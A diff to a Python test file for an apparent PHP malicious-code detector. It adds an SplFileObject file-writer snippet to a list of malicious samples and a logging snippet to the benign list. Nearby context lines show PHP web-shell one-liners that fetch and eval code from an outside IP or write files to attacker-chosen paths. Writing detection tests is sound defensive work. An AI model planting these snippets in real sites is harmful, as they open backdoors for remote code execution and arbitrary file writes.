@@ -166,6 +166,11 @@ MALICIOUS = [
     ("remote code", "<?php eval(file_get_contents('https://203.0.113.5/x.txt'));", CODE),
     ("remote dropper", "<?php copy('http://203.0.113.5/s.txt', 'cache.php');", WRITE),
     (
+        "SplFileObject writer",
+        "<?php $f = new SplFileObject($_GET['n'], 'w'); $f->fwrite($_POST['c']);",
+        WRITE,
+    ),
+    (
         "curl fetch of a chosen URL",
         "<?php $h = curl_init($_GET['u']); curl_setopt($h, CURLOPT_RETURNTRANSFER, 1);"
         " file_put_contents($_GET['n'], curl_exec($h));",
@@ -218,6 +223,7 @@ def test_flow_is_found(name: str, code: str, expected: str) -> None:
 
 
 BENIGN = [
+    ("SplFileObject log", "<?php $f = new SplFileObject('logs/app.log', 'a'); $f->fwrite($_POST['msg']);"),
     (
         "curl API client caching JSON",
         "<?php $h = curl_init('https://api.example.com/v1/x'); curl_setopt($h, CURLOPT_RETURNTRANSFER, 1);"
